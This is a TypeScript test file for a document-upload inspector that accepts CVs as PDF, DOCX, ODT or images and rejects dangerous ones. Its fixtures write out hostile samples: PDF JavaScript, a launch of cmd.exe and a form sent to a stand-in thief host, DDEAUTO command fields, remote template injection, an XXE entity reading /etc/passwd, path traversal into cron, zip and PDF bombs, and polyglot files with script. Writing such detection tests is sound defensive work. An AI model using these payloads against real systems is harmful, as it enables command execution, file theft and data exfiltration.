import { deflateSync } from "node:zlib";
import fc from "fast-check";
import { beforeAll, describe, expect, test } from "vitest";
import { inspectDocument } from "./inspect.ts";
import { makeArchive, makeDocx, makeOdt } from "./testing/make-archive.ts";
import { makePdf, makePdfWith } from "./testing/make-pdf.ts";

const line = "Élève de terminale, j'aime cuisiner.";
const jpeg = Buffer.concat([
  Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
  Buffer.alloc(200),
  Buffer.from([0xff, 0xd9]),
]);
const png = Buffer.concat([
  Buffer.from("\x89PNG\r\n\x1a\n", "latin1"),
  Buffer.alloc(100),
  Buffer.from("IEND\xaeB\x60\x82", "latin1"),
]);
const webp = Buffer.concat([Buffer.from("RIFF\x64\x00\x00\x00WEBP", "latin1"), Buffer.alloc(96)]);
const archive = makeArchive([{ name: "evil.jar", content: "x".repeat(100) }]);

const code = async (bytes: Buffer, name: string) => {
  const inspected = await inspectDocument(bytes, name);
  return inspected.ok ? inspected.value.type : inspected.refusal.code;
};

let pdf: Buffer;
beforeAll(async () => {
  pdf = await makePdf(line);
});

describe("takes", () => {
  test("a PDF, a DOCX and an ODT, and what they say", async () => {
    for (const [bytes, name] of [
      [pdf, "cv.pdf"],
      [makeDocx(line), "cv.docx"],
      [makeOdt(line), "Mon CV.ODT"],
    ] as const) {
      const inspected = await inspectDocument(bytes, name);
      expect(inspected, name).toMatchObject({ ok: true });
      expect(inspected.ok && inspected.value.text).toContain(line);
    }
  });

  test("images, by what they are", async () => {
    expect(await code(jpeg, "cv.jpg")).toBe("jpeg");
    expect(await code(png, "cv.png")).toBe("png");
    expect(await code(webp, "cv.webp")).toBe("webp");
  });

  test("a link that one clicks", async () => {
    const rels = `<Relationships><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://exemple.fr" TargetMode="External"/></Relationships>`;
    expect(
      await code(makeDocx(line, [{ name: "word/_rels/document.xml.rels", content: rels }]), "cv.docx"),
    ).toBe("docx");
    expect(await code(makePdfWith("<< /Type /Action /S /URI /URI (https://exemple.fr) >>"), "cv.pdf")).toBe(
      "pdf",
    );
  });

  test("signs that XML writes with codes", async () => {
    const inspected = await inspectDocument(makeDocx("Caf&#xE9; &amp; pain &lt;3"), "cv.docx");
    expect(inspected).toMatchObject({ value: { text: "Café & pain <3" } });
  });
});

describe("refuses what it is not", () => {
  test.each([
    ["nothing", Buffer.alloc(0), "cv.pdf", "file-missing"],
    ["too much", Buffer.alloc(10 * 1024 * 1024 + 1), "cv.pdf", "file-heavy"],
    ["a program", Buffer.from("MZ\x90\x00"), "cv.pdf", "file-type"],
    ["a page", Buffer.from("<!doctype html><script>alert(1)</script>"), "cv.pdf", "file-type"],
    ["an SVG", Buffer.from("<svg onload='alert(1)'/>"), "cv.png", "file-type"],
    ["a picture called a PDF", jpeg, "cv.pdf", "file-extension"],
    ["a DOCX called an ODT", makeDocx(line), "cv.odt", "file-extension"],
    ["a name without an ending", jpeg, "cv", "file-type"],
    [
      "an old Word file",
      Buffer.from("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Word", "latin1"),
      "cv.docx",
      "file-type",
    ],
    ["another archive", archive, "cv.docx", "file-type"],
    ["an archive cut short", makeDocx(line).subarray(0, 200), "cv.docx", "file-broken"],
    ["a PDF cut short", Buffer.from("%PDF-1.7\n1 0 obj"), "cv.pdf", "file-broken"],
  ])("%s", async (_what, bytes, name, expected) => {
    expect(await code(bytes, name)).toBe(expected);
  });
});

describe("refuses what is locked", () => {
  test("a PDF with a password", async () => {
    expect(await code(await makePdf(line, { userPassword: "secret" }), "cv.pdf")).toBe("file-encrypted");
  });

  test.each([
    [
      "a DOCX with a password",
      Buffer.concat([
        Buffer.from("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "latin1"),
        Buffer.alloc(500),
        Buffer.from("EncryptedPackage", "utf16le"),
      ]),
      "cv.docx",
    ],
    [
      "an archive with a password",
      makeArchive([{ name: "word/document.xml", content: "x", isEncrypted: true }]),
      "cv.docx",
    ],
    ["an ODT with a password", makeOdt(line, [], "<manifest:encryption-data/>"), "cv.odt"],
  ])("%s", async (_what, bytes, name) => {
    expect(await code(bytes, name)).toBe("file-encrypted");
  });
});

describe("refuses what acts", () => {
  const script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";

  test.each([
    ["a script", makePdfWith(script)],
    ["a script hidden in an object stream", makePdfWith(script, { isHidden: true })],
    ["a script whose name is written with codes", makePdfWith("<< /S /J#61vaScript /J#53 (app.alert) >>")],
    ["a program to launch", makePdfWith("<< /S /Launch /F (cmd.exe) >>")],
    ["an attached file", makePdfWith("<< /Type /Filespec /EF << /F 9 0 R >> /EmbeddedFiles 8 0 R >>")],
    [
      "a form that is sent away",
      makePdfWith("<< /S /SubmitForm /F (https://voleur.example) >>", { isHidden: true }),
    ],
  ])("a PDF with %s", async (_what, bytes) => {
    expect(await code(bytes, "cv.pdf")).toBe("file-active");
  });

  const settings = "word/_rels/settings.xml.rels";
  const attached = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate";
  test.each([
    [
      "quoted otherwise",
      `<Relationships><Relationship Type='${attached}' Target='https://voleur.example/t' TargetMode='External'/></Relationships>`,
    ],
    [
      "written with codes",
      `<Relationships><Relationship Type="${attached}" Target="x" TargetMode="Extern&#97;l"/></Relationships>`,
    ],
    [
      "with a prefix",
      `<r:Relationships><r:Relationship Type="${attached}" Target="a>b" TargetMode="External"/></r:Relationships>`,
    ],
    ["in another encoding", Buffer.from(`\ufeff<Relationships TargetMode="External"/>`, "utf16le")],
  ])("a template from elsewhere, %s", async (_what, content) => {
    expect(await code(makeDocx(line, [{ name: settings, content }]), "cv.docx")).toBe("file-active");
  });

  test("a field that is cut over runs, or stands in a header; not a link to a page about imports", async () => {
    const cut =
      "<w:p><w:r><w:instrText>DDEA</w:instrText></w:r><w:r><w:instrText>UTO cmd</w:instrText></w:r></w:p>";
    expect(await code(makeDocx(line, [], { extra: cut }), "cv.docx")).toBe("file-active");
    const header = { name: "word/header1.xml", content: `<w:hdr>${cut}</w:hdr>` };
    expect(await code(makeDocx(line, [header]), "cv.docx")).toBe("file-active");
    const link = '<w:p><w:instrText> HYPERLINK "https://exemple.fr/import" </w:instrText></w:p>';
    expect(await code(makeDocx(line, [], { extra: link }), "cv.docx")).toBe("docx");
  });

  test("objects that are packed in another way than every writer packs them", async () => {
    const hidden = makePdfWith("<< /S /JavaScript >>", { isHidden: true }).toString("latin1");
    const twice = hidden.replace("/Filter /FlateDecode", "/Filter [/ASCIIHexDecode /FlateDecode]");
    expect(await code(Buffer.from(twice, "latin1"), "cv.pdf")).toBe("file-active");
  });

  const macros = "application/vnd.ms-word.document.macroEnabled.main+xml";
  const template = `<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://voleur.example/t.dotm" TargetMode="External"/></Relationships>`;
  test.each([
    [
      "a DOCX with macros",
      makeDocx(line, [{ name: "word/vbaProject.bin", content: "x" }]),
      "cv.docx",
      "file-macros",
    ],
    ["a DOCM called a DOCX", makeDocx(line, [], { main: macros }), "cv.docx", "file-macros"],
    [
      "an ODT with macros",
      makeOdt(line, [{ name: "Basic/Standard/Module1.xml", content: "x" }]),
      "cv.odt",
      "file-macros",
    ],
    [
      "a DOCX with an object",
      makeDocx(line, [{ name: "word/embeddings/oleObject1.bin", content: "x" }]),
      "cv.docx",
      "file-active",
    ],
    [
      "a DOCX with ActiveX",
      makeDocx(line, [{ name: "word/activeX/activeX1.bin", content: "x" }]),
      "cv.docx",
      "file-active",
    ],
    [
      "a template from elsewhere",
      makeDocx(line, [{ name: "word/_rels/settings.xml.rels", content: template }]),
      "cv.docx",
      "file-active",
    ],
    [
      "a field that runs a program",
      makeDocx(line, [], { extra: "<w:instrText> DDEAUTO c:\\cmd.exe </w:instrText>" }),
      "cv.docx",
      "file-active",
    ],
    [
      "an ODT with an object",
      makeOdt(line, [{ name: "Object 1/content.xml", content: "x" }]),
      "cv.odt",
      "file-active",
    ],
    [
      "entities",
      makeDocx('&x;</w:t></w:r></w:p><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:p><w:r><w:t>'),
      "cv.docx",
      "file-active",
    ],
  ])("%s", async (_what, bytes, name, expected) => {
    expect(await code(bytes, name)).toBe(expected);
  });
});

describe("refuses what unfolds without measure", () => {
  const zeros = Buffer.alloc(61 * 1024 * 1024);

  test.each([
    ["an entry that is too large", makeDocx(line, [{ name: "word/media/a.bin", content: zeros }])],
    [
      "an entry packed a thousand times",
      makeDocx(line, [{ name: "a", content: zeros.subarray(0, 9 * 1024 * 1024) }]),
    ],
    [
      "too many entries",
      makeDocx(
        line,
        Array.from({ length: 2_100 }, (_, rank) => ({ name: `f${rank}`, content: "" })),
      ),
    ],
  ])("%s", async (_what, bytes) => {
    expect(await code(bytes, "cv.docx")).toBe("file-bomb");
  });

  test("an entry that lies about its size", async () => {
    const content = `<w:t>${" ".repeat(5 * 1024 * 1024)}</w:t>`;
    const lying = makeArchive([
      { name: "[Content_Types].xml", content: "x" },
      { name: "word/document.xml", content, claimedSize: 100 },
    ]);
    expect(await code(lying, "cv.docx")).toBe("file-broken");
  });

  test("a stream of a PDF", async () => {
    const packed = deflateSync(Buffer.alloc(21 * 1024 * 1024));
    const bomb = Buffer.concat([
      Buffer.from("%PDF-1.7\n5 0 obj\n<< /Filter /FlateDecode >>\nstream\n"),
      packed,
      Buffer.from("\nendstream\nendobj\n%%EOF"),
    ]);
    expect(await code(bomb, "cv.pdf")).toBe("file-bomb");
  });

  // A pass that looks back or ahead for each of them would take minutes.
  test.each([
    ["beginnings of streams without an end", "stream\n", "file-broken"],
    ["streams without an object", "stream\nendstream\n", "file-bomb"],
  ])("a PDF of a great many %s is looked through in one pass", async (_what, part, expected) => {
    const made = Buffer.from(`%PDF-1.7\n${part.repeat(400_000)}%%EOF`);
    expect(await code(made, "cv.pdf")).toBe(expected);
  });

  test("names that climb out of their folder", async () => {
    expect(await code(makeDocx(line, [{ name: "../../etc/cron.d/evil", content: "x" }]), "cv.docx")).toBe(
      "file-broken",
    );
  });
});

describe("refuses what is two things at once", () => {
  const page = Buffer.from("<script>alert(document.cookie)</script>");

  test("a PDF, a picture or a DOCX with another file in it", async () => {
    expect(await code(Buffer.concat([pdf, archive]), "cv.pdf")).toBe("file-polyglot");
    expect(await code(makeArchive([{ name: "evil.jar", content: "x" }], pdf), "cv.pdf")).toBe(
      "file-polyglot",
    );
    expect(await code(Buffer.concat([pdf, page]), "cv.pdf")).toBe("file-polyglot");
    expect(await code(makeArchive([{ name: "evil.jar", content: "x" }], jpeg), "cv.jpg")).toBe(
      "file-polyglot",
    );
    expect(await code(Buffer.concat([png, page]), "cv.png")).toBe("file-polyglot");
    expect(await code(Buffer.concat([webp, page]), "cv.webp")).toBe("file-polyglot");
  });

  test("a page with a PDF after it is no PDF", async () => {
    expect(await code(Buffer.concat([page, pdf]), "cv.pdf")).toBe("file-type");
  });
});

// Each PDF is read in a thread of its own: a busy machine takes its time.
test("whatever the bytes, there is an answer", { timeout: 60_000 }, async () => {
  const heads = ["", "%PDF-1.7\n", "PK\x03\x04", "\xff\xd8\xff", "\x89PNG\r\n\x1a\n", "RIFFxxxxWEBP"];
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...heads), fc.uint8Array({ maxLength: 400 }), async (head, bytes) => {
      const file = Buffer.concat([Buffer.from(head, "latin1"), bytes]);
      expect(typeof (await code(file, "cv.pdf"))).toBe("string");
    }),
    { numRuns: 60 },
  );
});
